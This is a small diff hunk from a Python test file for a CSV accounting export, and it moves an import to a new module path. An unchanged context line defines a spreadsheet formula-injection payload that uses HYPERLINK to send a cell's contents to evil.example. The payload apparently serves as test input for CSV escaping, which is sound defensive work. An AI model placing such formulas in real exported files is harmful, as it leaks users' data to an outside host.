@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 from servicefixtures import running_service
 
-from broker.accounting import csv_cell, usage_csv
+from broker.core.accounting import csv_cell, usage_csv
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
